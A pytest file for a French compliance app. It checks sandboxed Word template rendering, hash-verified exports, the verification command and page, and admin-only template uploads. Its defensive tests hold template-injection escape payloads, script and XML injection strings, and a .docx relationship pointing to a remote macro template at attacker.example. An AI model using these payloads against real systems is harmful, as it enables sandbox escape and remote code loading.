"""Word documents: sandboxed rendering, exports recorded and verifiable, restyled templates."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, date, datetime

import pytest
from docx import Document
from jinja2.exceptions import SecurityError, TemplateError
from sqlmodel import select

from compliance import documents
from compliance.audit import AuditEntry
from compliance.cli import main
from compliance.document_templates import (
    TemplateRejected,
    check_template,
    reset_template,
    store_template,
)
from compliance.documents import (
    DocumentType,
    export_document,
    format_document_date,
    format_document_datetime,
    render_docx,
    sha256_of,
    verify_document,
    yes_no,
)
from compliance.permissions import Role
from compliance.tenancy import OrganisationKind

NAME = "test-register"
ROWS = [
    {"name": "Ciril Finances", "when": datetime(2026, 10, 24, 8, 0, tzinfo=UTC), "active": True},
    {"name": "Concerto", "when": datetime(2026, 1, 1, 11, 30, tzinfo=UTC), "active": False},
]


def build_template(*, heading: str = "Registre : {{ title }}", extra: tuple = ()) -> bytes:
    """A small template written with python-docx: paragraphs and a table-row loop."""
    document = Document()
    document.add_paragraph(heading)
    document.add_paragraph("Référence : {{ export.reference }}")
    for text in extra:
        document.add_paragraph(text)
    table = document.add_table(rows=4, cols=3)
    for cell, text in zip(table.rows[0].cells, ("Nom", "Date", "Actif"), strict=True):
        cell.text = text
    table.rows[1].cells[0].text = "{%tr for row in rows %}"
    values = ("{{ row.name }}", "{{ row.when|datetime }}", "{{ row.active|yesno }}")
    for cell, text in zip(table.rows[2].cells, values, strict=True):
        cell.text = text
    table.rows[3].cells[0].text = "{%tr endfor %}"
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def example_context() -> dict:
    return {"title": "Exemple", "rows": ROWS}


@pytest.fixture
def document_type(app, word_folder, monkeypatch):
    kind = DocumentType(
        name=NAME,
        title="Registre de test",
        register="dashboard",
        context=lambda session, organisation, user: example_context(),
    )
    monkeypatch.setitem(app.extensions.setdefault("document_types", {}), NAME, kind)
    return kind


def texts(data: bytes) -> list[str]:
    document = Document(io.BytesIO(data))
    found = [p.text for p in document.paragraphs]
    for table in document.tables:
        found.extend(cell.text for row in table.rows for cell in row.cells)
    return found


def body_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("word/document.xml").decode()


def render_source(template: bytes, context: dict) -> bytes:
    return documents.render_docx_source(template, context)


# --- rendering -------------------------------------------------------------------------------


def test_render_reopens_with_the_values(word_folder):
    data = render_docx(NAME, example_context())
    document = Document(io.BytesIO(data))
    assert document.paragraphs[0].text == "Registre : Exemple"
    table = document.tables[0]
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Nom", "Date", "Actif"],
        ["Ciril Finances", "24 octobre 2026 à 10:00", "oui"],
        ["Concerto", "1er janvier 2026 à 12:30", "non"],
    ]


def test_values_come_out_as_literal_text(word_folder):
    hostile = (
        "<script>alert('x')</script> & <w:p><w:r><w:t>injected</w:t></w:r></w:p> "
        '"quoted" ]]> {{ 7 * 7 }} \x07bell\x0cpage\x00nul'
    )
    data = render_docx(NAME, {"title": hostile, "rows": [{"name": hostile}]})
    document = Document(io.BytesIO(data))
    expected = hostile.replace("\x07", "").replace("\x0c", "").replace("\x00", "")
    assert document.paragraphs[0].text == f"Registre : {expected}"
    assert document.tables[0].rows[1].cells[0].text == expected
    # No paragraph or element came from the value: the same shape as with a harmless title.
    harmless = render_docx(NAME, {"title": "x", "rows": [{"name": "x"}]})
    assert len(document.paragraphs) == len(Document(io.BytesIO(harmless)).paragraphs)
    xml = body_xml(data)
    assert "<script>" not in xml and "injected</w:t></w:r></w:p> " not in xml
    assert "&lt;script&gt;" in xml


def test_new_lines_in_a_value_become_line_breaks(word_folder):
    data = render_docx(NAME, {"title": "ligne 1\nligne 2", "rows": []})
    assert Document(io.BytesIO(data)).paragraphs[0].text == "Registre : ligne 1\nligne 2"


@pytest.mark.parametrize(
    "expression",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ title.__class__.__mro__ }}",
        "{{ rows.append(1) }}",
        "{{ 'a' * 100000000 }}",
        "{% autoescape false %}{{ title }}{% endautoescape %}",
    ],
)
def test_template_trying_to_escape_the_sandbox_fails_safely(expression):
    template = build_template(extra=(expression,))
    with pytest.raises(SecurityError):
        render_source(template, example_context())


def test_safe_filter_is_not_available():
    template = build_template(extra=("{{ title|safe }}",))
    with pytest.raises(TemplateError):
        render_source(template, {"title": "<w:p/>", "rows": []})


def test_document_filters_speak_french():
    assert format_document_datetime(datetime(2026, 10, 24, 8, 0, tzinfo=UTC)) == (
        "24 octobre 2026 à 10:00"
    )
    # Winter time: UTC+1.
    assert format_document_datetime(datetime(2026, 12, 1, 9, 5, tzinfo=UTC)) == (
        "1er décembre 2026 à 10:05"
    )
    assert format_document_date(date(2026, 3, 9)) == "9 mars 2026"
    assert format_document_date(None) == ""
    assert (yes_no(True), yes_no(False), yes_no(None)) == ("oui", "non", "")
    assert yes_no(None, "oui,non,inconnu") == "inconnu"
    template = build_template(extra=("{{ kind|label }} · {{ count|number }}",))
    data = render_source(template, {"kind": OrganisationKind.OPH, "count": 12345, "rows": []})
    assert "Office public de l'habitat · 12\u202f345" in texts(data)


# --- exports ---------------------------------------------------------------------------------


def export(session, actor, organisation=None):
    return export_document(
        session,
        document="test",
        template=NAME,
        context=example_context(),
        title="Registre de test",
        filename="registre.docx",
        actor=actor,
        organisation=organisation,
        parameters={"scope": "test"},
    )


def test_export_records_reference_sha256_and_audit(session, word_folder, make_user, organisation):
    user = make_user(Role.DPO, organisation, name="Jeanne Martin")
    data, record = export(session, user, organisation)

    assert re.fullmatch(r"EXP-20\d\d-\d{6}", record.reference)
    assert record.sha256 == sha256_of(data) and record.size == len(data)
    assert (record.actor_id, record.organisation_id) == (user.id, organisation.id)
    document = Document(io.BytesIO(data))
    assert f"Référence : {record.reference}" in texts(data)
    properties = document.core_properties
    assert (properties.identifier, properties.title, properties.author) == (
        record.reference,
        "Registre de test",
        "Registre",
    )
    entry = session.scalar(
        select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.seq.desc())
    )
    assert entry.object_id == str(record.id) and entry.actor_id == user.id
    assert entry.organisation_id == organisation.id
    assert entry.changes["reference"]["after"] == record.reference
    assert entry.changes["sha256"]["after"] == record.sha256

    assert verify_document(session, data).id == record.id
    assert verify_document(session, data + b"\0") is None


def test_two_exports_get_distinct_references(session, word_folder, make_user, organisation):
    user = make_user(Role.DPO, organisation)
    _, first_record = export(session, user, organisation)
    _, second_record = export(session, user, organisation)
    assert first_record.reference != second_record.reference
    assert first_record.sha256 != second_record.sha256


def test_verify_export_command(app, session, word_folder, make_user, organisation, tmp_path):
    user = make_user(Role.AUDITOR, organisation, name="Paul Auditeur")
    data, record = export(session, user, organisation)
    session.flush()
    original = tmp_path / "original.docx"
    original.write_bytes(data)
    document = Document(io.BytesIO(data))
    document.paragraphs[0].text = "Registre : chiffres retouchés"
    altered = tmp_path / "altered.docx"
    document.save(altered)

    runner = app.test_cli_runner()
    result = runner.invoke(main, ["verify-export", str(original)], obj=app)
    assert result.exit_code == 0, result.output
    assert "authentic" in result.output and record.reference in result.output
    assert "Paul Auditeur" in result.output and organisation.name in result.output

    result = runner.invoke(main, ["verify-export", str(altered)], obj=app)
    assert result.exit_code == 1
    assert "NOT AUTHENTIC" in result.output


# --- restyled templates ----------------------------------------------------------------------


def test_organisation_override_is_used_when_present(
    session, word_folder, instance, document_type, organisation, other_organisation
):
    restyled = build_template(heading="Version de la commune : {{ title }}")
    store_template(session, document_type, organisation, restyled, actor="test")

    assert "Version de la commune : Exemple" in texts(
        render_docx(NAME, example_context(), organisation=organisation)
    )
    assert "Registre : Exemple" in texts(
        render_docx(NAME, example_context(), organisation=other_organisation)
    )
    entry = session.scalar(select(AuditEntry).where(AuditEntry.action == "template_upload"))
    assert entry.organisation_id == organisation.id and entry.object_id == NAME

    assert reset_template(session, document_type, organisation, actor="test")
    assert "Registre : Exemple" in texts(
        render_docx(NAME, example_context(), organisation=organisation)
    )


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"not a zip", "n'est pas un document Word"),
        (build_template(extra=("{{ ''.__class__.__mro__ }}",)), "opération interdite"),
        (build_template(extra=("{% for x in %}",)), "erreur de balise"),
    ],
)
def test_a_bad_template_is_rejected(app, document_type, data, message):
    with app.test_request_context(), pytest.raises(TemplateRejected, match=message):
        check_template(data, document_type)


def test_a_template_linking_a_remote_resource_is_rejected(app, document_type):
    source = io.BytesIO(build_template())
    target = io.BytesIO()
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(target, "w") as copy:
        for item in original.infolist():
            content = original.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                content = content.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                    b'officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="http://attacker.example/t.dotm" TargetMode="External"/>'
                    b"</Relationships>",
                )
            copy.writestr(item, content)
    with app.test_request_context(), pytest.raises(TemplateRejected, match="ressource externe"):
        check_template(target.getvalue(), document_type)


# --- pages -----------------------------------------------------------------------------------


def test_verify_page_says_authentic_or_unknown(
    client, login_as, session, word_folder, make_user, organisation
):
    login_as(Role.REFERENT, organisation)
    author = make_user(Role.DPO, organisation, name="Jeanne Martin")
    data, record = export(session, author, organisation)
    session.commit()

    assert client.get("/verify").status_code == 200
    response = client.post("/verify", data={"document": (io.BytesIO(data), "doc.docx")})
    page = response.get_data(as_text=True)
    assert response.status_code == 200 and "Document authentique" in page
    assert record.reference in page and "Jeanne Martin" in page

    response = client.post("/verify", data={"document": (io.BytesIO(data[:-1]), "doc.docx")})
    assert "Document inconnu ou modifié" in response.get_data(as_text=True)


def test_verify_page_needs_a_login(client):
    response = client.get("/verify")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_templates_page_is_for_administrators(client, login_as, document_type, organisation):
    login_as(Role.DPO, organisation)
    assert client.get("/documents/templates/").status_code == 403


def test_administrator_uploads_and_resets_a_template(
    client, login_as, instance, document_type, organisation, other_organisation
):
    login_as(Role.ADMIN, organisation)
    page = client.get("/documents/templates/")
    assert page.status_code == 200 and "Registre de test" in page.get_data(as_text=True)
    url = f"/documents/templates/{organisation.slug}/{NAME}"
    field = f"{NAME}-template"

    bad = build_template(extra=("{{ ''.__class__.__mro__ }}",))
    response = client.post(url, data={field: (io.BytesIO(bad), "modele.docx")})
    assert response.status_code == 400
    assert "opération interdite" in response.get_data(as_text=True)
    assert not (instance / "word-templates" / organisation.slug / f"{NAME}.docx").exists()

    good = build_template(heading="Maquette communale : {{ title }}")
    response = client.post(url, data={field: (io.BytesIO(good), "modele.docx")})
    assert response.status_code == 302
    stored = instance / "word-templates" / organisation.slug / f"{NAME}.docx"
    assert stored.read_bytes() == good
    assert client.get(f"{url}.docx").data == good

    # An organisation where the user is not an administrator does not exist for them.
    other = f"/documents/templates/{other_organisation.slug}/{NAME}"
    assert client.post(other, data={field: (io.BytesIO(good), "m.docx")}).status_code == 404

    assert client.post(f"{url}/reset").status_code == 302
    assert not stored.exists()


def test_que_filter_elides_before_a_vowel():
    from compliance.documents import que

    assert que("Arcueil") == "qu'Arcueil"
    assert que("Ivry-sur-Seine") == "qu'Ivry-sur-Seine"
    assert que("Établissement public") == "qu'Établissement public"
    assert que("Gentilly") == "que Gentilly"
